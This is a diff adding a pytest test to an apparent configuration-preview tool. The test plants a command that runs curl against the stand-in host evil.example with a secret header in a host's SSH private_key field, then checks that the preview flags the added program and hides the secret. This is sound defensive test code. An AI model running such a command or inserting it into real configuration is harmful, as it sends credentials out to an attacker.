@@ -59,6 +59,19 @@ def test_a_clone_alone_shows_the_difference(railyard: Call, clone: Path) -> None
     assert as_file.out == done.out
 
 
+def test_a_program_that_an_edit_adds_is_the_first_that_a_reviewer_reads(
+    railyard: Call, clone: Path
+) -> None:
+    hosts = yaml.safe_load(SITE.read_text())["hosts"]
+    hosts[0]["ssh"]["private_key"] = {"command": ["curl", "https://evil.example", "-H", "s3cr3t"]}
+    edit(clone, hosts=hosts, rails=other_vlan())
+    for form in ("text", "markdown"):
+        done = railyard("preview", "dev", "--against", "HEAD", "--format", form)
+        said = [line for line in done.out.splitlines() if line.startswith(("!", "> `", "**"))]
+        assert "this edit adds a program: curl of hosts[0].ssh.private_key.command" in said[0]
+        assert "s3cr3t" not in done.out
+
+
 def test_the_full_text_is_a_file_where_the_comment_is_cut(railyard: Call, clone: Path) -> None:
     hosts = yaml.safe_load(SITE.read_text())["hosts"]
     edit(
